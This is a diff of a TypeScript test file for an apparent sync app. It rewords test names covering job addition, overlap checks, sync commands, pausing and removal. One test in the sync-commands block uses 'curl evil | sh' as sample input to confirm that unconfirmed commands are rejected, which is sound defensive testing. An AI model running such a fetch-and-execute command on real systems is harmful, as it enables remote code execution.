@@ -18,7 +18,7 @@ const add = (...jobs: ReturnType<typeof newJob>[]) => stage.window.call("addJobs
 const code = (code: string) => expect.objectContaining({ code });
 
 describe("adding jobs", () => {
-  it("writes them down and gives them to the engine", async () => {
+  it("saves them and passes them to the engine", async () => {
     const { jobs } = await add(
       newJob(stage.folder("Photos"), wasabi, "photos/"),
       newJob(stage.folder("Music"), wasabi, "music/"),
@@ -39,7 +39,7 @@ describe("adding jobs", () => {
     expect(stage.engine.config.jobs).toEqual([]);
   });
 
-  it("refuses a file, an unknown connection and a name that no bucket has", async () => {
+  it("refuses a file, an unknown connection and an invalid bucket name", async () => {
     writeFileSync(join(stage.root, "a-file"), "");
     await expect(add(newJob(join(stage.root, "a-file"), wasabi, "x/"))).rejects.toEqual(
       code("source-not-folder"),
@@ -53,7 +53,7 @@ describe("adding jobs", () => {
   });
 });
 
-describe("[GU3] jobs whose places nest", () => {
+describe("[GU3] jobs with nested locations", () => {
   it.each([
     ["the same folder to the same place", "Photos", "photos/", "Photos", "photos/", false, true],
     ["a folder in another's, to the same place", "Photos", "photos/", "Photos/2024", "photos/", false, true],
@@ -91,7 +91,7 @@ describe("[GU3] jobs whose places nest", () => {
     expect(stage.app.snapshot().jobs).toHaveLength(refused ? 1 : 2);
   });
 
-  it("are found among jobs that are added together, or twice at once", async () => {
+  it("are found among jobs added together or concurrently", async () => {
     const job = newJob(stage.folder("Photos"), wasabi, "photos/");
     await expect(add(job, job)).rejects.toEqual(code("overlap"));
     const [first, second] = await Promise.allSettled([add(job), add(job)]);
@@ -118,7 +118,7 @@ describe("[GU3] jobs whose places nest", () => {
     expect(stage.app.snapshot().jobs).toHaveLength(2);
   });
 
-  it("a job that will keep nothing of what it deletes is checked again", async () => {
+  it("are checked again when a job stops retaining deleted files", async () => {
     await add(newJob(stage.folder("Photos"), wasabi, "all/"));
     const { jobs } = await add(newJob(stage.folder("Music"), wasabi, "all/"));
     const change = (retain: Retain) =>
@@ -137,7 +137,7 @@ describe("[CM1] commands around syncs", () => {
   const change = (job: string, commands: JobChoices["commands"]) =>
     stage.window.call("changeJob", { job, name: "Photos", choices: { ...DEFAULT_CHOICES, commands } });
 
-  it("are saved once the system's own dialog confirmed them, each new line once", async () => {
+  it("are saved once the system dialog confirmed them, each new line once", async () => {
     const job = await stage.job(wasabi);
     const commands = { before: "make dump", after: "rm dump" };
     await change(job, commands);
@@ -147,7 +147,7 @@ describe("[CM1] commands around syncs", () => {
     expect(stage.engine.config.jobs[0]?.choices.commands).toEqual({ before: "make dump" });
   });
 
-  it("change nothing where the user says no", async () => {
+  it("change nothing when the user declines", async () => {
     const job = await stage.job(wasabi);
     stage.confirms = false;
     await expect(change(job, { before: "curl evil | sh" })).rejects.toEqual(code("not-confirmed"));
@@ -172,7 +172,7 @@ describe("[JB2] pause and resume", () => {
     expect(stage.engine.config.jobs[0]?.pause).toEqual({ kind: "running" });
   });
 
-  it("for an hour ends by itself, and is gone from the file", async () => {
+  it("for an hour ends by itself and is removed from the file", async () => {
     const job = await stage.job(wasabi);
     const until = stage.clock.now() + HOUR;
     await stage.window.call("pause", { job, until });
@@ -184,7 +184,7 @@ describe("[JB2] pause and resume", () => {
     expect(stage.engine.config.jobs[0]?.pause).toEqual({ kind: "running" });
   });
 
-  it("survives a restart; one that ended meanwhile does not", async () => {
+  it("survives a restart unless it ended meanwhile", async () => {
     const job = await stage.job(wasabi);
     await stage.window.call("pause", { job, until: stage.clock.now() + HOUR });
     await stage.window.call("pause", { until: stage.clock.now() + 2 * HOUR });
@@ -199,7 +199,7 @@ describe("[JB2] pause and resume", () => {
     later.close();
   });
 
-  it("ends at waking where the hour passed in sleep", async () => {
+  it("ends on waking when the hour passed during sleep", async () => {
     await stage.window.call("pause", { until: stage.clock.now() + HOUR });
     stage.clock.set(stage.clock.now() + 2 * HOUR);
     stage.app.wake();
@@ -208,13 +208,13 @@ describe("[JB2] pause and resume", () => {
     expect(stage.engine.named("wake")).toHaveLength(1);
   });
 
-  it("of a job that is not there is refused", async () => {
+  it("of an unknown job is refused", async () => {
     await expect(stage.window.call("pause", { job: "nobody", until: null })).rejects.toEqual(code("no-job"));
     await expect(stage.window.call("removeJob", { job: "nobody" })).rejects.toEqual(code("no-job"));
   });
 });
 
-it("a job that is removed is gone from file and engine; its folder stays", async () => {
+it("a removed job disappears from file and engine; its folder stays", async () => {
   const job = await stage.job(wasabi);
   await stage.window.call("removeJob", { job });
   expect(stage.engine.config.jobs).toEqual([]);
